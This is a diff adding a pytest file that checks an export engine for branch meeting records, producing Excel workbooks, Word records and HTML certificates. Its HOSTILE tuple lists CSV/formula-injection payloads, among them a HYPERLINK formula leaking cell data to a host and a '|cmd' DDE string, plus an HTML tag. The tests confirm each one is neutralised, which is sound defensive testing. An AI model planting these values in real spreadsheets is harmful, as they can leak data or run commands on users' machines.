@@ -1,0 +1,187 @@
+"""What a branch files: parsed back as Excel and Word would read it."""
+
+from __future__ import annotations
+
+import struct
+import zlib
+from datetime import datetime
+from io import BytesIO
+from typing import Any
+
+import pytest
+from docx import Document
+from docx.table import _Cell
+from msgspec.structs import replace
+from openpyxl import load_workbook
+
+from engine.export import certificate
+from engine.export.bundle import RECORD, WORKBOOK, bundle
+from engine.export.record import record
+from engine.export.report import Report
+from engine.export.workbook import workbook
+from engine.rules.codec import decode_log
+from engine.rules.events import Reflected
+from engine.rules.replay import replay
+from engine.store.activities import Activity
+from tests.support.evenings import evening, report_of, yida
+
+HOSTILE = (
+    '=HYPERLINK("http://x/?"&A1,"x")', "+1+1|cmd", "@SUM(1)", "-2+3", "\t=1", "http://a.b", "007", "<b>粗</b>&amp;",
+)  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def report() -> Report:
+    """Two teams; one of them slipped."""
+    scenario = yida()
+    logs = [
+        evening(scenario, "one", wrong_rate=0.05),
+        evening(scenario, "two", team=2, wrong_rate=0.6),
+    ]
+    said = Reflected(at_ms=logs[1][-1].event.at_ms, seat="s1", text="=1+1 警觉是学来的")
+    more = replace(logs[1][-1], seq=len(logs[1]) + 1, by="s1", command="said", event=said)
+    activity = Activity(
+        session="session1",
+        branch="机关第一党支部",
+        place="三楼会议室",
+        host="老周",
+        absent="小吴(病假)",
+    )
+    return report_of(scenario, logs[0], [*logs[1], more], activity=activity)
+
+
+def sheets(report: Report) -> dict[str, list[list[Any]]]:
+    book = load_workbook(BytesIO(workbook(report)))
+    return {
+        sheet.title: [[c.value for c in row] for row in sheet.iter_rows(min_row=3)]
+        for sheet in book
+    }
+
+
+def test_the_workbook_tells_who_came_and_how_it_went(report: Report) -> None:
+    found = sheets(report)
+    assert list(found) == ["签到表", "各队成绩", "个人成绩", "误区台账", "用时与等待", "感言"]
+    head, *rows = found["签到表"]
+    assert head == ["序号", "姓名", "队", "角色", "入座", "离开", "签名"]
+    assert [row[1:4] for row in rows[:2]] == [["赵春兰", 1, "李汉俊"], ["钱卫国", 1, "李达"]]
+    assert isinstance(rows[0][4], datetime)
+    assert len(rows) == 8
+    teams = found["各队成绩"]
+    assert [row[0] for row in teams[1:]] == [1, 2]
+    assert [row[5] for row in teams[1:]] == [len(run.course.springs) for run in report.runs]
+    assert teams[0][6:] == list(report.scenario.objectives.values())
+    traps = found["误区台账"]
+    assert len(traps) - 1 == len(report.beliefs)
+    assert all(row[6] and row[7] for row in traps[1:]), "each with its fact and its sources"
+    assert found["感言"][1] == [2, "赵春兰", "=1+1 警觉是学来的"]
+
+
+def test_no_cell_is_a_formula_whatever_people_are_called(report: Report) -> None:
+    hostile = report_of(
+        report.scenario,
+        *report.logs.values(),
+        names=HOSTILE,
+        activity=Activity(session="session1", branch="=2+2", topic="@题", absent="+病"),
+    )
+    book = load_workbook(BytesIO(workbook(hostile)))
+    for sheet in book:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", cell.coordinate
+                if isinstance(cell.value, str) and cell.row > 3:
+                    assert cell.quotePrefix, f"{sheet.title} {cell.coordinate} may become one"
+                assert cell.hyperlink is None
+    names = [row[1].value for row in book["签到表"].iter_rows(min_row=4)]
+    assert names[:4] == list(HOSTILE[:4]), "and nothing of them is lost"
+
+
+def texts(report: Report) -> list[str]:
+    document = Document(BytesIO(record(report)))
+    (table,) = document.tables
+    seen: list[Any] = []
+    for row in table.rows:
+        for cell in row.cells:
+            if cell._tc not in seen:
+                seen.append(cell._tc)
+    shown = [paragraph.text for paragraph in document.paragraphs]
+    return [*shown, *("\n".join(p.text for p in _Cell(tc, table).paragraphs) for tc in seen)]
+
+
+def test_the_record_has_what_a_record_has(report: Report) -> None:
+    found = texts(report)
+    assert found[0] == "主题党日活动记录"
+    told = dict(zip(found[1::2], found[2::2], strict=False))
+    assert told["党支部"] == "机关第一党支部"
+    assert told["活动地点"] == "三楼会议室"
+    assert told["实到人数"] == "8 人"
+    assert told["活动主题"] == report.scenario.title
+    assert told["参加人员"].startswith("赵春兰、钱卫国")
+    assert told["缺席人员\n及原因"] == "小吴(病假)"
+    assert "第 2 队" in told["活动成效"]
+    assert "史实：" in told["活动成效"]
+    assert "出处：" in told["活动成效"]
+    assert told["学习感言"] == "赵春兰：=1+1 警觉是学来的"
+    assert told["活动时间"].startswith("2020年09月1")
+
+
+def png(width: int = 4, height: int = 3) -> bytes:
+    """A small white picture."""
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+        )
+
+    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    rows = b"".join(b"\0" + b"\xff" * 3 * width for _ in range(height))
+    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
+    return b"\x89PNG\r\n\x1a\n" + body
+
+
+@pytest.mark.parametrize(
+    ("photo", "pictures"), [(png(), 1), (None, 0), (b"\x89PNG\r\n\x1a\nno", 0)]
+)
+def test_the_photo_is_in_it_or_room_for_one(
+    report: Report, photo: bytes | None, pictures: int
+) -> None:
+    with_photo = replace(report, activity=replace(report.activity, photo=photo))
+    document = Document(BytesIO(record(with_photo)))
+    assert len(document.inline_shapes) == pictures
+
+
+def test_text_that_xml_cannot_hold_spoils_nothing(report: Report) -> None:
+    odd = replace(report, activity=replace(report.activity, remarks="一\x00二\x0b三"))
+    assert "一二三" in texts(odd)
+
+
+def test_a_certificate_for_everybody_with_a_name(report: Report) -> None:
+    found = certificate.certificates(report)
+    assert [one.name for one in found[:2]] == ["赵春兰", "钱卫国"]
+    assert len(found) == 8
+    assert found[0].branch == "机关第一党支部"
+    unnamed = report_of(report.scenario, report.logs["run1"], names=["只有一人"])
+    assert [one.name for one in certificate.certificates(unnamed)] == ["只有一人"]
+
+
+def test_certificates_are_one_page_of_html_that_nobody_writes_into(report: Report) -> None:
+    page = certificate.page(report)
+    assert page.count("<article>") == 8
+    assert "<script" not in page
+    named = report_of(report.scenario, report.logs["run1"], names=HOSTILE[-1:])
+    assert "&lt;b&gt;粗" in certificate.page(named)
+    assert certificate.style_hash().startswith("sha256-")
+
+
+def test_the_bundle_holds_them_all_and_its_logs_fold(report: Report) -> None:
+    files = bundle(report)
+    assert set(files) == {
+        RECORD,
+        WORKBOOK,
+        "参加证明.html",
+        "xapi.json",
+        "第1队.jsonl",
+        "第2队.jsonl",
+    }
+    records = list(decode_log("r", files["第1队.jsonl"].splitlines()))
+    assert records == list(report.logs["run1"])
+    assert replay("r", records).ending == report.runs[0].course.ending
